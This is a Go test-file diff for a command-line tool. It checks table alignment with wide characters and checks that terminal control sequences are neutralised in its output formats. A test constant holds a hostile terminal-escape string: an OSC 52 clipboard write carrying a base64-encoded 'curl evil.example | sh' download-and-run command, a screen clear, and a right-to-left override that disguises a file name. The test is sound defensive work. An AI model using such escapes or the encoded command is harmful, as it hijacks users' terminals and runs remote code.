@@ -2,6 +2,7 @@ package main
 
 import (
 	"bytes"
+	"encoding/json"
 	"flag"
 	"os"
 	"path/filepath"
@@ -192,5 +193,80 @@ func TestTextLayout(t *testing.T) {
 		if out.String() != c.want {
 			t.Errorf("text of %v --query %q = %q, want %q", c.v, c.query, out.String(), c.want)
 		}
+	}
+}
+
+// TestTableWideCharacters: a table stays aligned when a value holds
+// characters a terminal shows two columns wide (CJK, emoji) or zero wide
+// (combining marks), as tabulate (az's table) aligns them with wcwidth.
+func TestTableWideCharacters(t *testing.T) {
+	var out bytes.Buffer
+	a := &App{Stdout: &out, Output: formatTable, Getenv: func(string) string { return "" }}
+	rows := []record{
+		{{"subject", "CN=日本語テスト 🔑"}, {"name", "unicode1"}},
+		{{"subject", "CN=cafe\u0301"}, {"name", "x"}},
+		{{"subject", "CN=ascii"}, {"name", "y"}},
+	}
+	if err := a.emit(rows, formatJSON); err != nil {
+		t.Fatal(err)
+	}
+	// "CN=日本語テスト 🔑" is 18 columns wide: 3 + 6×2 + 1 + 2.
+	want := "Subject" + strings.Repeat(" ", 13) + "Name\n" +
+		strings.Repeat("-", 18) + "  " + strings.Repeat("-", 8) + "\n" +
+		"CN=日本語テスト 🔑  unicode1\n" +
+		"CN=cafe\u0301" + strings.Repeat(" ", 13) + "x\n" +
+		"CN=ascii" + strings.Repeat(" ", 12) + "y\n"
+	if out.String() != want {
+		t.Errorf("table:\n%s\nwant\n%s", out.String(), want)
+	}
+}
+
+// hostile holds what a terminal would act on: an OSC 52 clipboard write,
+// a screen clear, BEL, an 8-bit CSI (C1), DEL and a right-to-left override.
+const hostile = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\a\x1b[2J\u009b31mred\x7f\u202eexe.txt"
+
+// hasTerminalControl reports whether s holds a rune a terminal acts on
+// (tab and newline apart) or one that reorders what it shows.
+func hasTerminalControl(s string) bool {
+	return strings.ContainsFunc(s, func(r rune) bool {
+		return r != '\n' && r != '\t' && (r < 0x20 || r == 0x7f || r >= 0x80 && r <= 0x9f || r >= 0x202a && r <= 0x202e || r >= 0x2066 && r <= 0x2069)
+	})
+}
+
+// TestOutputNeutralisesTerminalControls: a value from a service or from a
+// token being decoded cannot drive the terminal (set the clipboard, clear
+// the screen, reorder text) in any format; json and yaml keep the value
+// (escaped), so that a reader gets it back unchanged.
+func TestOutputNeutralisesTerminalControls(t *testing.T) {
+	v := []record{{{"subject" + hostile, hostile}, {"n", "x"}}}
+	for _, f := range []string{formatJSON, formatJSONC, formatYAML, formatTable, formatTSV, formatText} {
+		var out bytes.Buffer
+		a := &App{Stdout: &out, Output: f, Getenv: func(string) string { return "" }, stdoutTTY: false}
+		if f == formatText {
+			a.Output = ""
+		}
+		if err := a.emit(v, formatText); err != nil {
+			t.Fatalf("-o %s: %v", f, err)
+		}
+		if hasTerminalControl(out.String()) {
+			t.Errorf("-o %s writes terminal controls: %q", f, out.String())
+		}
+		if f == formatJSON {
+			var back []map[string]string
+			if err := json.Unmarshal(out.Bytes(), &back); err != nil || len(back) != 1 || back[0]["subject"+hostile] != hostile {
+				t.Errorf("-o json does not give the value back: %v %q", err, out.String())
+			}
+		}
+	}
+	var text bytes.Buffer
+	a := &App{Stdout: &text, Getenv: func(string) string { return "" }}
+	if err := a.emit(record{{"subject", hostile}}, formatText); err != nil {
+		t.Fatal(err)
+	}
+	if hasTerminalControl(text.String()) {
+		t.Errorf("text layout writes terminal controls: %q", text.String())
+	}
+	if got := oneLine("error: " + hostile); hasTerminalControl(got) {
+		t.Errorf("an error line writes terminal controls: %q", got)
 	}
 }
